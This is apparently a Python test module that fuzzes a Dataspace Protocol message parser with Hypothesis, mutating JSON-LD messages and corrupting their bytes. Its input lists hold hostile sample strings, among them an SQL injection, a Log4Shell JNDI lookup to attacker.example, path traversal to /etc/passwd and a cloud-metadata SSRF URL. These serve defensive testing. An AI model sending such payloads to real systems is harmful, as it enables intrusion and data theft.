"""Mutants of protocol messages: one to three changes of the structure, made by Hypothesis.

A mutant knows whether its message is certainly broken (a required member gone, another pid, an
unknown context), so that accepting it would be a fault. Of the others it is only known what may
come of them: nothing, or what the message before its change would have done.
"""

from __future__ import annotations

import copy
from collections.abc import Callable, Iterator
from typing import Any, NamedTuple

from hypothesis import strategies as st

from trustspace.dsp.messages import MESSAGE_TYPES

Json = dict[str, Any]
Path = tuple[str | int, ...]
Draw = Callable[[st.SearchStrategy[Any]], Any]

DSPACE = "https://w3id.org/dspace/2025/1/"
PIDS = ("consumerPid", "providerPid")
OPTIONAL = ("@id", "reason", "code", "filter", "dataAddress")


class Mutant(NamedTuple):
    """A changed message.

    Attributes:
        body: The message.
        is_broken: Whether it must be refused.
        story: What was done to it.
    """

    body: Any
    is_broken: bool
    story: tuple[str, ...]


# What strangers write where something else is meant. Lone surrogates are text of bytes, see there.
_TEXT = st.one_of(
    st.text(st.characters(exclude_categories=["Cs"]), max_size=20),
    st.sampled_from(
        [
            "",
            " ",
            "\x00",
            "a\nb",
            "\u202e",
            "\ufeff",
            "é" * 1_000,
            "x" * 3_000,
            "x" * 100_000,
            "../../etc/passwd",
            "'; DROP TABLE negotiations; --",
            "${jndi:ldap://attacker.example/a}",
            "http://169.254.169.254/latest/meta-data",
            "file:///etc/passwd",
            "did:web:attacker.example",
            "odrl:use",
            "http://[",
            "http://a:99999/",
        ]
    ),
)
_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(2**53) + 1, 2**53 - 1),
    st.sampled_from([2**53, -(2**63), 10**40]),
    st.floats(allow_nan=False, allow_infinity=False),
    _TEXT,
)
_VALUES = st.one_of(
    _SCALARS,
    st.recursive(
        _SCALARS,
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(_TEXT, inner, max_size=3),
        max_leaves=6,
    ),
    st.sampled_from(
        [[], {}, [[]], [{}], {"@id": {}}, {"@value": []}, {"@set": {}}, {"@list": [0]}]
    ),
    st.integers(2, 200).map(lambda depth: _nested(depth, list)),
    st.integers(2, 200).map(lambda depth: _nested(depth, dict)),
    st.integers(10, 3_000).map(lambda length: [{"a": 1}] * length),
)
_CONTEXTS: st.SearchStrategy[Any] = st.sampled_from(
    [
        None,
        [],
        "",
        {},
        "https://attacker.example/context",
        f"{DSPACE}context.json",
        [f"{DSPACE}context.jsonld", "https://attacker.example/context"],
        [f"{DSPACE}context.jsonld", {"assignee": "https://attacker.example/a"}],
        ["https://w3id.org/dspace/2024/1/context.json"],
        [[f"{DSPACE}context.jsonld"]],
        [f"{DSPACE}context.jsonld", None],
        [f"{DSPACE}context.jsonld", 1],
    ]
)


def _nested(depth: int, kind: type) -> Any:
    value: Any = "x"
    for _ in range(depth):
        value = [value] if kind is list else {"a": value}
    return value


@st.composite
def mutants(draw: Draw, message: Json) -> Mutant:
    """Return mutants of a message."""
    body = copy.deepcopy(message)
    story = []
    is_broken = False
    changes = draw(st.integers(1, 3))
    for _ in range(changes):
        change = draw(st.sampled_from(_CHANGES))
        told, breaks = change(draw, body)
        story.append(told)
        # A second change may mend the first one.
        is_broken = breaks and changes == 1
    return Mutant(body, is_broken, tuple(story))


def _places(value: Any, path: Path = ()) -> Iterator[Path]:
    """Yield the path of everything inside a value."""
    parts = (
        value.items() if isinstance(value, dict) else enumerate(value)
        if isinstance(value, list) else ()
    )  # fmt: skip
    for key, part in list(parts)[:50]:
        yield (*path, key)
        if len(path) < 12:
            yield from _places(part, (*path, key))


def _pick(draw: Draw, body: Json) -> tuple[Any, Any, Path]:
    """Return a container inside the message, a key of it, and the path there."""
    places = list(_places(body))
    if not places:
        body["x"] = 1
        places = [("x",)]
    path = draw(st.sampled_from(places))
    container: Any = body
    for key in path[:-1]:
        container = container[key]
    return container, path[-1], path


def _is_required(path: Path) -> bool:
    return len(path) == 1 and path[0] not in OPTIONAL


def _drop(draw: Draw, body: Json) -> tuple[str, bool]:
    container, key, path = _pick(draw, body)
    del container[key]
    return f"drop {path}", _is_required(path)


def _rename(draw: Draw, body: Json) -> tuple[str, bool]:
    container, key, path = _pick(draw, body)
    if not isinstance(container, dict):
        return "nothing", False
    name = draw(
        st.sampled_from(
            [
                f"dspace:{key}",
                f"{DSPACE}{key}",
                f"odrl:{key}",
                f"edc:{key}",
                str(key).upper(),
                f"{key} ",
                f"{key}\x00",
                f"_{key}",
                "",
            ]
        )
    )
    container[name] = container.pop(key)
    is_unknown = str(name).startswith(("edc:", "_")) or str(name).endswith((" ", "\x00"))
    return f"rename {path} to {name!r}", _is_required(path) and is_unknown


def _twice(draw: Draw, body: Json) -> tuple[str, bool]:
    container, key, path = _pick(draw, body)
    if isinstance(container, list):
        container.extend([copy.deepcopy(container[key])] * draw(st.sampled_from([1, 2, 500])))
        return f"repeat {path}", False
    container[f"dspace:{key}"] = copy.deepcopy(container[key])
    return f"say {path} in two spellings", key in PIDS and len(path) == 1


def _replace(draw: Draw, body: Json) -> tuple[str, bool]:
    container, key, path = _pick(draw, body)
    container[key] = copy.deepcopy(draw(_VALUES))
    return f"replace {path} by {str(container[key])[:80]!r}", False


def _wrap(draw: Draw, body: Json) -> tuple[str, bool]:
    container, key, path = _pick(draw, body)
    value = container[key]
    container[key] = draw(
        st.sampled_from(
            [
                [value],
                [[value]],
                [value, value],
                {"@id": value},
                {"@value": value},
                {"@value": value, "@type": "xsd:string"},
                {"@value": value, "@language": "en"},
                {"@set": [value]},
                {"@list": [value]},
                str(value),
            ]
        )
    )
    return f"wrap {path}", False


def _add(draw: Draw, body: Json) -> tuple[str, bool]:
    container, _, path = _pick(draw, body)
    name = draw(
        st.sampled_from(
            ["@id", "@graph", "@reverse", "@included", "@nest", "@base", "@vocab", "__proto__",
             "state", "callbackAddress", "dataAddress", "offer", "agreement", "target", "duty",
             "permission", "and", "conflict", "refinement", "inheritFrom", "x" * 5_000]
        )
    )  # fmt: skip
    if not isinstance(container, dict):
        container.append(copy.deepcopy(draw(_VALUES)))
        return f"append to {path[:-1]}", False
    container[name] = copy.deepcopy(draw(_VALUES))
    return f"add {name[:30]} beside {path}", False


def _other_type(draw: Draw, body: Json) -> tuple[str, bool]:
    names = sorted({*MESSAGE_TYPES} - {str(body.get("@type"))})
    body["@type"] = draw(st.sampled_from([*names, "", "Message", f"{DSPACE}Nothing"]))
    return f"call it {body['@type']}", True


def _other_pid(draw: Draw, body: Json) -> tuple[str, bool]:
    told = [name for name in PIDS if name in body]
    if len(told) < 2:
        return "nothing", False
    name = draw(st.sampled_from(told))
    pid = str(body[name])
    body[name] = draw(
        st.sampled_from(
            [
                pid + " ",
                pid.upper(),
                pid.removeprefix("urn:uuid:"),
                pid[:-1],
                f"{pid}\x00",
                f"{pid}/../x",
                str(body[next(one for one in PIDS if one != name)]),
                "urn:uuid:00000000-0000-4000-8000-000000000000",
            ]
        )
    )
    return f"name {body[name]!r} as {name}", True


def _other_context(draw: Draw, body: Json) -> tuple[str, bool]:
    told = copy.deepcopy(draw(_CONTEXTS))
    body["@context"] = told
    # A further remote context is ignored: it cannot redefine what the protocol's context protects.
    is_sound = (
        isinstance(told, list)
        and f"{DSPACE}context.jsonld" in told
        and all(isinstance(one, str) and one.startswith("https://") for one in told)
    )
    return f"say it in {told}", not is_sound


_CHANGES: list[Callable[[Draw, Json], tuple[str, bool]]] = [
    _drop, _drop, _rename, _twice, _replace, _replace, _replace, _wrap, _add, _other_type,
    _other_pid, _other_context,
]  # fmt: skip


@st.composite
def spoilt(draw: Draw, body: bytes) -> bytes:
    """Return the bytes of a message after an accident or an attack on them."""
    at = draw(st.integers(0, len(body)))
    junk = draw(
        st.one_of(
            st.binary(max_size=8),
            st.sampled_from(
                [b"\xff", b"\xed\xa0\x80", b"\\ud800", b"\xef\xbb\xbf", b"\x00", b"NaN", b"1e999",
                 b"-0", b"//", b"/**/", b",", b"[" * 1_000, b'{"a":' * 1_000, b'"', b"\\",
                 b'"@type":"X",', b'"@id":"a","@id":"b",', b"9" * 5_000]
            ),
        )
    )  # fmt: skip
    kind = draw(st.sampled_from(["cut", "insert", "overwrite", "append", "twice"]))
    spoilt_bodies: dict[str, bytes] = {
        "cut": body[:at],
        "insert": body[:at] + junk + body[at:],
        "overwrite": body[:at] + junk + body[at + len(junk) :],
        "append": body + junk,
        "twice": body + body,
    }
    return spoilt_bodies[kind]
